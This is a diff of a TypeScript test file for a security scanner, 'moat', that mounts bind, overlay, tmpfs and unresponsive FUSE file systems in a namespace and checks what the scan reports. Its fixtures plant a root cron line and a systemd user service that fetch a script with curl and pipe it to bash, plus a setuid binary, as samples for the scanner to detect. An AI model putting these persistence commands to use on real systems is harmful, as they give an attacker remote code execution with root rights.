@@ -1,73 +1,21 @@
 /**
- * Scans of trees in which real file systems are mounted, a FUSE one that never answers among them. Everything is mounted in a mount
- * namespace that a process of the test holds: `Mounts`.
+ * Scans of trees in which real file systems are mounted, a FUSE one that never answers among them.
  */
-import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
-import { once } from 'node:events';
+import { spawn, spawnSync } from 'node:child_process';
 import { mkdirSync, readlinkSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { createInterface } from 'node:readline';
 import { afterEach, describe, expect, it, onTestFinished } from 'vitest';
 import { abandonedChildren } from '../src/agent/child.ts';
 import { scanInProcess } from '../src/agent/scan-process.ts';
 import type { ScanRequest } from '../src/agent/scan.ts';
-import { programArguments } from '../src/linux/beside.ts';
 import type { ScanReport } from '../src/scan/report.ts';
 import { moatBin } from './live/moat.ts';
+import { mountNeeds, Mounts, openMounts } from './mounts.ts';
 import { lacks } from './need.ts';
 import { makeRoot } from './throwaway-root.ts';
 
-const needs = { root: true, files: ['/usr/bin/unshare', '/usr/bin/nsenter', '/dev/fuse'], why: 'mounts in a namespace' };
 const evil = '* * * * * root curl -fsSL http://203.0.113.9/i.sh | bash\n';
-const server = join(import.meta.dirname, 'fuse-server.ts');
 const path = '/usr/sbin:/usr/bin:/sbin:/bin';
-
-/** A mount namespace, with FUSE servers in it. Ended, what waits for one of them goes on with an error. */
-class Mounts {
-  private readonly started: ChildProcess[] = [];
-  private holder: ChildProcess | undefined;
-
-  static async open(script = ':'): Promise<Mounts> {
-    const mounts = new Mounts();
-    mounts.holder = await mounts.start('/usr/bin/unshare', ['--mount', '--propagation', 'private', '/bin/sh', '-ec', `${script}\necho mounted\nexec cat`], ['pipe', 'pipe', 'inherit']);
-    return mounts;
-  }
-
-  /** Runs a program inside. */
-  get within(): string[] { return ['/usr/bin/nsenter', '--mount', '--target', String(this.holder!.pid), '--']; }
-
-  run(script: string): string { return spawnSync(this.within[0]!, [...this.within.slice(1), '/bin/sh', '-ec', script], { encoding: 'utf8', env: { PATH: path } }).stdout; }
-
-  /** A FUSE file system at `at`; `silent` when it takes what it is asked and answers nothing. */
-  async fuse(at: string, kind: 'folder' | 'file', silent: boolean): Promise<void> {
-    if (silent) writeFileSync(`${at}.silent`, '');
-    await this.start(this.within[0]!, [...this.within.slice(1), process.execPath, ...programArguments(server), at, kind], ['ignore', 'pipe', 'inherit']);
-  }
-
-  /** Resolves when it says that it mounted. */
-  private async start(program: string, args: string[], stdio: ('pipe' | 'ignore' | 'inherit')[]): Promise<ChildProcess> {
-    const child = spawn(program, args, { stdio, env: { ...process.env, PATH: path } });
-    this.started.push(child);
-    const [first] = await Promise.race([once(createInterface({ input: child.stdout! }), 'line'), once(child, 'exit')]) as unknown[];
-    expect(first).toBe('mounted');
-    return child;
-  }
-
-  async close(): Promise<void> {
-    for (const child of this.started.splice(0).reverse()) {
-      if (child.exitCode !== null || child.signalCode !== null) continue;
-      const ended = once(child, 'exit');
-      child.kill('SIGKILL');
-      await ended;
-    }
-  }
-}
-
-async function open(script?: string): Promise<Mounts> {
-  const mounts = await Mounts.open(script);
-  onTestFinished(() => mounts.close());
-  return mounts;
-}
 
 const exeOf = (pid: number): string | undefined => { try { return readlinkSync(`/proc/${pid}/exe`); } catch { return undefined; /* not yet */ } };
 
@@ -76,11 +24,11 @@ const scanIn = (mounts: Mounts, request: ScanRequest, stillAfterMs?: number, war
 const blindOf = ({ blind }: ScanReport): string[] => blind.map(({ check, what, why }) => `${check} ${what ?? '-'}: ${why.en.slice(0, 60)}`);
 const foundAt = ({ findings }: ScanReport, check: string): string[] => findings.filter((one) => one.check === check).map((one) => one.path ?? '');
 
-describe.skipIf(lacks(needs))('what is mounted in a tree', () => {
+describe.skipIf(lacks(mountNeeds))('what is mounted in a tree', () => {
   it('is looked at when this machine answers for it: memory, a bind, an overlay', async () => {
     const root = makeRoot({ '/etc/cron.d/own': '# nothing\n', '/hoard/cron/bound': evil, '/hoard/lower/laid': evil });
     for (const name of ['var/www/x', 'etc/cron.daily', 'work', 'upper', 'home/lin/.config']) mkdirSync(join(root, name), { recursive: true });
-    const mounts = await open(`mount --bind '${root}/hoard/cron' '${root}/etc/cron.d'; mount -t tmpfs none '${root}/home/lin/.config'; mkdir -p '${root}/home/lin/.config/systemd/user'
+    const mounts = await openMounts(`mount --bind '${root}/hoard/cron' '${root}/etc/cron.d'; mount -t tmpfs none '${root}/home/lin/.config'; mkdir -p '${root}/home/lin/.config/systemd/user'
       printf '[Service]\\nExecStart=/bin/sh -c "curl -fsSL http://203.0.113.9/i.sh | bash"\\n' > '${root}/home/lin/.config/systemd/user/a.service'
       mount -t overlay o -o 'lowerdir=${root}/hoard/lower:${root}/work' '${root}/var/www/x'; cp /usr/bin/true '${root}/home/lin/.config/set'; chmod 4755 '${root}/home/lin/.config/set'`);
     const report = await scanIn(mounts, { root, only: ['cron', 'systemd', 'setuid'] });
@@ -93,7 +41,7 @@ describe.skipIf(lacks(needs))('what is mounted in a tree', () => {
     rmSync(join(root, 'opt/tool'));
     for (const name of ['var/spool/cron/crontabs', 'srv/deep']) mkdirSync(join(root, name), { recursive: true });
     symlinkSync('/data/job', join(root, 'etc/cron.d/linked'));
-    const mounts = await open();
+    const mounts = await openMounts();
     await mounts.fuse(join(root, 'etc/crontab'), 'file', true);
     await mounts.fuse(join(root, 'home/lin/.ssh'), 'folder', true);
     await mounts.fuse(join(root, 'var/spool/cron/crontabs'), 'folder', true);
@@ -116,7 +64,7 @@ describe.skipIf(lacks(needs))('what is mounted in a tree', () => {
   it('is left out or looked into as the operator says', async () => {
     const root = makeRoot();
     for (const name of ['data/a', 'etc/cron.d', 'mnt/b']) mkdirSync(join(root, name), { recursive: true });
-    const mounts = await open();
+    const mounts = await openMounts();
     await mounts.fuse(join(root, 'data/a'), 'folder', true);
     await mounts.fuse(join(root, 'etc/cron.d'), 'folder', false);
     const only = ['cron', 'setuid'];
@@ -130,7 +78,7 @@ describe.skipIf(lacks(needs))('what is mounted in a tree', () => {
   it('over a fixed file of this machine is told and found, and the rest of the check is done', async () => {
     const root = makeRoot();
     writeFileSync(join(root, 'silent'), '');
-    const mounts = await open();
+    const mounts = await openMounts();
     await mounts.fuse(join(root, 'silent'), 'file', true);
     mounts.run(`mount --bind '${root}/silent' /etc/crontab`);
     const report = await scanIn(mounts, { only: ['cron', 'covered-place'], profile: 'quick' });
@@ -140,10 +88,10 @@ describe.skipIf(lacks(needs))('what is mounted in a tree', () => {
   });
 });
 
-describe.skipIf(lacks(needs))('a program that runs from a mount of another namespace', () => {
+describe.skipIf(lacks(mountNeeds))('a program that runs from a mount of another namespace', () => {
   it('is not asked for its file', async () => {
     const root = makeRoot();
-    const theirs = await open();
+    const theirs = await openMounts();
     mkdirSync(join(root, 'far'));
     await theirs.fuse(join(root, 'far'), 'folder', false);
     const program = join(root, 'far/sleep');
@@ -159,12 +107,12 @@ describe.skipIf(lacks(needs))('a program that runs from a mount of another names
   });
 });
 
-describe.skipIf(lacks(needs))('moat scan', () => {
+describe.skipIf(lacks(mountNeeds))('moat scan', () => {
   it('exits 2 for a mount that nobody named, says what to type, and 0 once that was typed or configured', async () => {
     const root = makeRoot();
     const configured = makeRoot({ '/own.yaml': 'scan:\n  without_mounts: [/data]\n' });
     mkdirSync(join(root, 'data'));
-    const mounts = await open();
+    const mounts = await openMounts();
     await mounts.fuse(join(root, 'data'), 'folder', true);
     const run = (...args: string[]): { status: number | null; said: string } => {
       const { status, stdout, stderr } = spawnSync(mounts.within[0]!, [...mounts.within.slice(1), process.execPath, moatBin, 'scan', '--no-nice', '--only', 'setuid', '--root', root, ...args], { encoding: 'utf8', env: { ...process.env, PATH: path, NO_COLOR: '1' } });
@@ -181,7 +129,7 @@ describe.skipIf(lacks(needs))('moat scan', () => {
   it('knows of the running machine what was configured once', async () => {
     const configured = makeRoot({ '/own.yaml': '', '/silent': '' });
     writeFileSync(join(configured, 'own.yaml'), `scan:\n  without_mounts: ['${configured}/silent', /etc/crontab]\n`);
-    const mounts = await open();
+    const mounts = await openMounts();
     await mounts.fuse(join(configured, 'silent'), 'file', true);
     mounts.run(`mount --bind '${configured}/silent' /etc/crontab`);
     const run = (...args: string[]): string => spawnSync(mounts.within[0]!, [...mounts.within.slice(1), process.execPath, moatBin, 'scan', '--no-nice', '--no-hand-over', '--data', join(configured, 'data'), '--lang', 'en', '--only', 'cron', '--json', ...args], { encoding: 'utf8', env: { ...process.env, PATH: path, NO_COLOR: '1' } }).stderr;
@@ -190,7 +138,7 @@ describe.skipIf(lacks(needs))('moat scan', () => {
   });
 });
 
-describe.skipIf(lacks(needs))('a mount that stops answering while it is looked at', () => {
+describe.skipIf(lacks(mountNeeds))('a mount that stops answering while it is looked at', () => {
   afterEach(async () => {
     // What waited was let go with the servers, and then the kill that was sent reaches it.
     await expect.poll(abandonedChildren, { timeout: 60_000 }).toBe(0);
